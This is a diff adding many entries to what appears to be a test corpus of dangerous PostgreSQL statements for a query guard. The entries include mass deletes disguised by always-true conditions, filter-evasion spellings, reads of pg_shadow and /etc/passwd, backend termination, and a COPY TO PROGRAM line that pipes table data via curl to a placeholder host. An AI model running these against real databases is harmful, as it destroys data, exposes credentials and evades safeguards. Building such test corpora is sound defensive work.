@@ -2751,3 +2751,275 @@ SELECT repeat('x', 90000000) || repeat('y', 90000000)
 SELECT factorial(1000000)
 --
 LOCK customers IN ACCESS EXCLUSIVE MODE
+--
+UPDATE orders SET status = 'x' WHERE id IS NOT NULL
+--
+UPDATE orders SET status = 'x' WHERE length(status) >= 0
+--
+UPDATE orders SET status = 'x' WHERE coalesce(id,0) = coalesce(id,0)
+--
+DELETE FROM orders WHERE random() >= 0
+--
+DELETE FROM orders WHERE EXISTS (SELECT 1)
+--
+DELETE FROM orders WHERE ctid > '(0,0)'
+--
+DELETE FROM orders WHERE ctid >= '(0,1)'::tid
+--
+DELETE FROM orders WHERE ctid = ANY (ARRAY(SELECT ctid FROM orders))
+--
+DELETE FROM orders USING orders o2 WHERE orders.id = o2.id
+--
+DELETE FROM orders USING customers c WHERE c.id = c.id
+--
+MERGE INTO orders o USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE
+--
+MERGE INTO orders o USING generate_series(1,1) g ON 1 = 1 WHEN MATCHED THEN UPDATE SET status = 'x'
+--
+WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d
+--
+WITH a AS (SELECT 1), d AS (DELETE FROM orders WHERE 1 = (SELECT * FROM a)) SELECT 1
+--
+WITH d AS (UPDATE orders SET status = status || 'x' WHERE status LIKE '%' OR status IS NULL RETURNING id) SELECT id FROM d LIMIT 1
+--
+DO $x$ BEGIN EXECUTE 'DROP ' || 'TABLE orders'; END $x$
+--
+DO LANGUAGE plpgsql 'BEGIN PERFORM pg_terminate_backend(pid) FROM pg_stat_activity; END'
+--
+DO $$ BEGIN DELETE FROM orders; EXCEPTION WHEN others THEN NULL; END $$
+--
+DO $$ BEGIN LOOP END LOOP; END $$
+--
+CREATE RULE r AS ON SELECT TO orders DO INSTEAD SELECT * FROM customers
+--
+CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM customers
+--
+ALTER SYSTEM SET archive_command = 'rm x'
+--
+ALTER ROLE app SET search_path = evil
+--
+ALTER USER CURRENT_USER PASSWORD 'x'
+--
+COPY orders TO PROGRAM 'curl -T - evil'
+--
+COPY (SELECT 1) TO '/tmp/x'
+--
+COPY orders FROM '/etc/passwd'
+--
+SELECT lo_export(16384, '/tmp/x')
+--
+SELECT * FROM pg_read_file('postgresql.conf')
+--
+SELECT dblink_exec('dbname=shop', 'DROP TABLE orders')
+--
+CREATE EXTENSION postgres_fdw
+--
+SELECT id, pg_terminate_backend(pid) FROM pg_stat_activity
+--
+SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity WHERE state = 'idle'
+--
+SELECT 1 WHERE (SELECT bool_or(pg_cancel_backend(pid)) FROM pg_stat_activity)
+--
+/* /* nested */ */ DROP /* x */ TABLE /* y */ orders
+--
+DROP/**/TABLE/**/orders
+--
+drop	table if exists U&"\006Frders"
+--
+DELETE FROM U&"o\0072ders"
+--
+DELETE FROM "orders"WHERE"id"="id"
+--
+DELETE FROM orders WHERE id OPERATOR(pg_catalog.=) id
+--
+DELETE FROM orders WHERE 1 OPERATOR(pg_catalog.=) 1
+--
+DELETE FROM orders WHERE NOT (id <> id)
+--
+DELETE FROM orders WHERE (id, status) = (id, status)
+--
+DELETE FROM orders WHERE ROW(id) IS NOT DISTINCT FROM ROW(id)
+--
+DELETE FROM orders WHERE id > -1
+--
+DELETE FROM orders WHERE id < 2147483647
+--
+DELETE FROM orders WHERE id::text ~ '.*'
+--
+DELETE FROM orders WHERE id::text ~ '^[0-9]'
+--
+DELETE FROM orders WHERE status NOT LIKE 'xyzzy'
+--
+DELETE FROM orders WHERE status <> 'xyzzy'
+--
+DELETE FROM orders WHERE status NOT IN ('xyzzy')
+--
+DELETE FROM orders WHERE NOT status = 'xyzzy'
+--
+DELETE FROM orders WHERE status IS DISTINCT FROM 'xyzzy'
+--
+DELETE FROM orders WHERE status IS NULL OR status IS NOT NULL
+--
+DELETE FROM orders WHERE id % 1 = 0
+--
+DELETE FROM orders WHERE id * 0 = 0
+--
+DELETE FROM orders WHERE id ^ 0 = 1
+--
+DELETE FROM orders WHERE id & 0 = 0
+--
+DELETE FROM orders WHERE sign(id) IN (-1,0,1)
+--
+DELETE FROM orders WHERE created_at < now()
+--
+DELETE FROM orders WHERE created_at <= current_date + 1
+--
+DELETE FROM orders WHERE created_at > '1970-01-01'
+--
+DELETE FROM orders WHERE status >= ''
+--
+DELETE FROM orders WHERE status || '' = status
+--
+DELETE FROM orders WHERE position('' in status) = 1
+--
+DELETE FROM orders WHERE strpos(status, '') > 0
+--
+DELETE FROM orders WHERE starts_with(status, '')
+--
+DELETE FROM orders WHERE left(status, 0) = ''
+--
+DELETE FROM orders WHERE md5(status) IS NOT NULL
+--
+DELETE FROM orders WHERE CASE WHEN id > 5 THEN true ELSE true END
+--
+DELETE FROM orders WHERE COALESCE(NULL, true)
+--
+DELETE FROM orders WHERE greatest(id, 0) >= 0
+--
+DELETE FROM orders WHERE NULLIF(1, 2) = 1
+--
+DELETE FROM orders WHERE pg_typeof(id)::text <> ''
+--
+DELETE FROM orders WHERE xmin IS NOT NULL
+--
+DELETE FROM orders WHERE current_user = current_user
+--
+DELETE FROM orders WHERE now() > '2000-01-01'
+--
+DELETE FROM orders WHERE version() LIKE 'Postgre%'
+--
+DELETE FROM orders WHERE 'a' ~ 'a'
+--
+DELETE FROM orders WHERE 1 IN (1, 2)
+--
+DELETE FROM orders WHERE id <= ALL (SELECT max(id) FROM orders)
+--
+DELETE FROM orders o WHERE EXISTS (SELECT 1 FROM orders p WHERE p.id = o.id)
+--
+DELETE FROM orders o WHERE EXISTS (SELECT FROM customers)
+--
+DELETE FROM orders WHERE NOT EXISTS (SELECT 1 WHERE false)
+--
+DELETE FROM orders WHERE (SELECT count(*) FROM customers) >= 0
+--
+DELETE FROM orders WHERE true = (SELECT bool_and(true))
+--
+DELETE FROM orders WHERE id IN (SELECT id FROM orders UNION SELECT 1)
+--
+DELETE FROM orders WHERE id IN (VALUES (1)) OR true
+--
+DELETE FROM orders WHERE to_tsvector(status) @@ to_tsquery('a') IS NOT NULL
+--
+DELETE FROM orders WHERE row_to_json(orders)::text LIKE '%id%'
+--
+DELETE FROM orders WHERE orders.* = orders.*
+--
+UPDATE orders SET status = 'x' FROM (VALUES (1)) v(a) WHERE v.a = 1
+--
+UPDATE orders SET status = 'x' FROM customers WHERE customers.id > 0
+--
+UPDATE orders SET status = 'x' WHERE id IN (SELECT o.id FROM orders o LEFT JOIN customers c ON c.id = o.customer_id)
+--
+INSERT INTO orders SELECT * FROM orders ON CONFLICT (id) DO UPDATE SET status = 'x'
+--
+TRUNCATE ONLY orders RESTART IDENTITY CASCADE
+--
+BEGIN; DELETE FROM orders; COMMIT
+--
+PREPARE p AS DELETE FROM orders; EXECUTE p
+--
+EXPLAIN ANALYZE DELETE FROM orders
+--
+EXPLAIN (ANALYZE true, BUFFERS) UPDATE orders SET status = 'x'
+--
+DECLARE c CURSOR WITH HOLD FOR SELECT pg_reload_conf()
+--
+CREATE TABLE x AS SELECT pg_rotate_logfile()
+--
+CREATE OR REPLACE FUNCTION lower(text) RETURNS text LANGUAGE sql AS 'select 1::text'
+--
+CREATE OPERATOR = (leftarg = int, rightarg = text, function = f)
+--
+ALTER TABLE orders OWNER TO eve
+--
+ALTER TABLE orders ENABLE ROW LEVEL SECURITY
+--
+ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO eve
+--
+CLUSTER orders
+--
+SELECT pg_create_physical_replication_slot('x')
+--
+SELECT query_to_xml('delete from orders', true, false, '')
+--
+SELECT ts_stat('select 1')
+--
+SELECT * FROM ts_stat('DELETE FROM orders RETURNING 1')
+--
+SELECT * FROM crosstab('delete from orders returning 1,2,3') AS t(a int, b int)
+--
+SELECT cursor_to_xml('c', 1, true, false, '')
+--
+SELECT * FROM pg_shadow
+--
+SELECT string_agg(o::text, ',') FROM orders o
+--
+SELECT json_agg(orders) FROM orders
+--
+SELECT xmlagg(xmlelement(name e, email)) FROM customers
+--
+SELECT pg_catalog . pg_terminate_backend ( 1 )
+--
+SELECT "pg_catalog"."pg_terminate_backend"(1)
+--
+SELECT U&"pg_\0074erminate_backend"(1)
+--
+SELECT pg_file_unlink('x')
+--
+SELECT pg_import_system_collations('x')
+--
+SELECT pg_log_backend_memory_contexts(1)
+--
+DISCARD ALL; DROP SCHEMA public CASCADE
+--
+COMMENT ON DATABASE shop IS NULL
+--
+NOTIFY x, 'y'; TRUNCATE orders
+--
+CALL p()
+--
+ALTER TABLE orders SET TABLESPACE t
+--
+ALTER TABLE orders DROP COLUMN status
+--
+ALTER TABLE orders ALTER COLUMN id TYPE text USING f(id)
+--
+CREATE INDEX i ON orders (f(id))
+--
+ALTER EXTENSION x UPDATE
+--
+DELETE FROM pg_proc WHERE proname = 'f'
+--
+INSERT INTO pg_auth_members VALUES (1,2,3)
+--
+ROLLBACK PREPARED 'x'
